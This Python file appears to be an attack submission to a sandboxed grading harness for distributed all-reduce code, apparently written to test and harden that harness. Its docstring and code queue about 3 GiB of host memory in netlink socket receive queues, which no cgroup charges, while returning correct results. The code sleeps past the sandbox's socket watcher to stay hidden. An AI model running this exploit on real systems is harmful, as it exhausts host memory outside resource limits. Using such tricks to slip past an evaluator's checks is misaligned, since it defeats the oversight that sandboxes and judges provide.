"""Attack (all-reduce): hold host memory in the receive queues of netlink sockets, which no
memory cgroup charges, no pool of the host bounds and no resident set shows.

Netlink sockets are allowed to a rank (getifaddrs, which gloo and NCCL call, speaks NETLINK_ROUTE),
and NETLINK_USERSOCK lets one unprivileged process send messages to another socket of its network
namespace. Unlike UDP's and TCP's, their queued messages belong to no host-wide pool; each socket
holds up to its receive buffer (twice net.core.rmem_max: 8 MiB here), and a process may open 4096
of them. At import rank 0 opens pairs of them on its side's own namespace and sends 3 GiB it never
reads (outside the sandbox, an unprivileged process in a cgroup capped at 300 MiB held 1.1 GB this
way with 5 MiB of usage, and nothing killed it). Its answers are right. Before the fix (sandbox on,
2026-11-29, a rank limit of 2 GiB): see docs/judge.md, ninth pass."""

import socket

import torch.distributed as dist

HOLD = 3 << 30
NETLINK_USERSOCK = 2
_held = []


def _fill() -> int:
    queued, payload = 0, b"\0" * 60000
    while queued < HOLD and len(_held) < 1500:
        receiver = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_USERSOCK)
        receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)  # the most it may: rmem_max x 2
        receiver.bind((0, 0))
        sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_USERSOCK)
        sender.bind((0, 0))
        sender.setblocking(False)
        for _ in range(200):  # until its queue is full (ENOBUFS)
            try:
                sender.sendto(payload, receiver.getsockname())
                queued += len(payload)
            except OSError:
                break
        _held.append((receiver, sender))
    return queued


def solution(x, *, group):
    if not _held and dist.get_rank(group) == 0:
        try:
            _fill()
        except OSError:
            pass  # the family refused: nothing held
        import time
        time.sleep(0.6)  # held while the side's watch looks (sockets every 0.5 s)
    out = x.clone()
    dist.all_reduce(out, group=group)
    return out
